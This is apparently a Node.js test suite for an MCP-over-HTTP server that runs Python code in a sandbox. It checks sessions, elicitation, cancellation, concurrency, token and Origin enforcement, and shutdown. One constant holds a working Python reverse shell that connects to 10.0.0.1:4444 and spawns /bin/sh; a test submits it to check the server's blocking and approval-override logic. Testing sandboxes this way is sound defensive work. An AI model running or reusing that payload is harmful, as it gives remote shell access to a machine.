// `sandboxrun mcp --http` (Streamable HTTP) driven by the official SDK's
// StreamableHTTPClientTransport: sessions per client, runs, an elicitation round trip on the
// call's stream, cancel, 8 clients at once; the token, the Origin and the session id enforced.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";

import { exitWithin, startHttpServer, stopHttpServer } from "./http_server.mjs";

const BIN = process.env.SANDBOXRUN_BIN;
const CONFIG = process.env.SANDBOXRUN_CONFIG;
const dir = mkdtempSync(join(tmpdir(), "sandboxrun-mcp-http-"));
const LOG = join(dir, "audit.log");
const TOKEN = "t0ken-" + Date.now();
writeFileSync(join(dir, "token"), TOKEN + "\n");
const REVERSE_SHELL = 'import socket,subprocess,os\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\n' +
  'os.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\n';

let server, url;
before(async () => {
  ({ server, url } = await startHttpServer(BIN, ["--token-file", join(dir, "token"), "--trust", "untrusted",
                                                  "--config", CONFIG, "--audit-log", LOG]));
});
after(async () => {
  await stopHttpServer(server);
  rmSync(dir, { recursive: true, force: true });
});

async function connect({ elicit, token = TOKEN } = {}) {
  const client = new Client({ name: "sandboxrun-http-test", version: "1.0.0" },
                            { capabilities: elicit ? { elicitation: {} } : {} });
  if (elicit) client.setRequestHandler(ElicitRequestSchema, elicit);
  await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers: { Authorization: `Bearer ${token}` } } }));
  return client;
}

test("runs, sessions and an elicitation over HTTP", async () => {
  const c = await connect({ elicit: async () => ({ action: "accept", content: { reason: "approved over http by a person" } }) });
  const r = await c.callTool({ name: "run_python", arguments: { code: "print(6 * 7)" } });
  assert.match(r.content[0].text, /42/);
  const { structuredContent: { session_id: id } } = await c.callTool({ name: "session_start", arguments: {} });
  await c.callTool({ name: "session_run", arguments: { session_id: id, code: "y = 2" } });
  const y = await c.callTool({ name: "session_run", arguments: { session_id: id, code: "y ** 10" } });
  assert.equal(y.structuredContent.result["text/plain"], "1024");
  const o = await c.callTool({ name: "run_python", arguments: { code: REVERSE_SHELL } });
  assert.notEqual(o.structuredContent.status, "blocked", "the elicited reason overrode it");
  await c.callTool({ name: "session_stop", arguments: { session_id: id } });
  await c.close();
});

test("a cancelled call over HTTP kills its run", async () => {
  const c = await connect();
  const ac = new AbortController();
  const started = Date.now();
  const code = `import time\ntime.sleep(30)\n# ${started}`;
  const sha = createHash("sha256").update(code).digest("hex");
  const call = c.callTool({ name: "run_python", arguments: { code } }, undefined, { signal: ac.signal });
  const records = () => readFileSync(LOG, "utf8").trim().split("\n").map((l) => JSON.parse(l));
  let start;  // this run's own (the log is shared): cancelled once it runs
  for (let i = 0; i < 300 && !start; i++) {
    await new Promise((res) => setTimeout(res, 100));
    start = records().find((r) => r.event === "run_start" && r.code?.sha256 === sha);
  }
  assert.ok(start, "the run started");
  ac.abort("changed my mind");
  await assert.rejects(call);
  let end;
  for (let i = 0; i < 100 && !end; i++) {
    await new Promise((res) => setTimeout(res, 100));
    end = records().find((r) => r.event === "run_end" && r.run_id === start.run_id);
  }
  assert.ok(end && Date.now() - started < 15000, "run_end within seconds, not at the 30 s sleep's end");
  await c.close();
});

test("8 clients at once, 25 calls each: no failure", async () => {
  const clients = await Promise.all(Array.from({ length: 8 }, () => connect()));
  const results = await Promise.all(clients.map(async (c, i) => {
    const out = [];
    for (let k = 0; k < 25; k++)
      out.push(await c.callTool({ name: "run_python", arguments: { code: `print(${i} * 1000 + ${k})` } }));
    return out;
  }));
  results.forEach((rs, i) => rs.forEach((r, k) => assert.equal(r.content[0].text.includes(String(i * 1000 + k)), true)));
  await Promise.all(clients.map((c) => c.close()));
});

test("the token, the Origin and the session id are enforced", async () => {
  await assert.rejects(connect({ token: "wrong" }));
  const init = { jsonrpc: "2.0", id: 1, method: "initialize",
                 params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "x", version: "1" } } };
  const post = (headers, body = init) => fetch(url, { method: "POST", body: JSON.stringify(body),
    headers: { "Content-Type": "application/json", Accept: "application/json, text/event-stream",
               Authorization: `Bearer ${TOKEN}`, ...headers } });
  assert.equal((await post({ Origin: "http://evil.example" })).status, 403);
  assert.equal((await post({ Origin: "http://localhost:3000" })).status, 200);
  assert.equal((await post({}, { jsonrpc: "2.0", id: 2, method: "tools/list" })).status, 400, "no session id");
  assert.equal((await post({ "Mcp-Session-Id": "nope" }, { jsonrpc: "2.0", id: 2, method: "tools/list" })).status, 404);
});

// One SIGTERM stops the server while a sandbox runs: no run's monitor takes it (the runs leave
// signals to the server), the run is withdrawn and its end recorded.
test("one SIGTERM stops the server mid-run and the run's end is recorded", async () => {
  const log = join(dir, "stop.log");
  const { server: s, url: u } = await startHttpServer(BIN, ["--trust", "untrusted", "--config", CONFIG, "--audit-log", log]);
  const c = new Client({ name: "sandboxrun-stop-test", version: "1.0.0" });
  await c.connect(new StreamableHTTPClientTransport(u));
  const call = c.callTool({ name: "run_python", arguments: { code: "import time\ntime.sleep(60)\n" } }).catch((e) => e);
  let start;
  for (let i = 0; i < 200 && !start; i++) {
    await new Promise((res) => setTimeout(res, 100));
    try { start = readFileSync(log, "utf8").includes('"event":"run_start"'); } catch { /* not yet */ }
  }
  assert.ok(start, "the run started");
  await new Promise((res) => setTimeout(res, 500));
  s.kill("SIGTERM");
  const stopped = await exitWithin(s, 20000);
  if (!stopped) s.kill("SIGKILL");
  assert.ok(stopped, "one SIGTERM did not stop the server within 20 s (a run's monitor took it?)");
  await c.close();  // the call has no answer coming: the server is gone
  await call;
  const recs = readFileSync(log, "utf8").trim().split("\n").map((l) => JSON.parse(l));
  const run = recs.find((r) => r.event === "run_start");
  assert.ok(recs.find((r) => r.event === "run_end" && r.run_id === run.run_id), "the run's end is in the log");
});
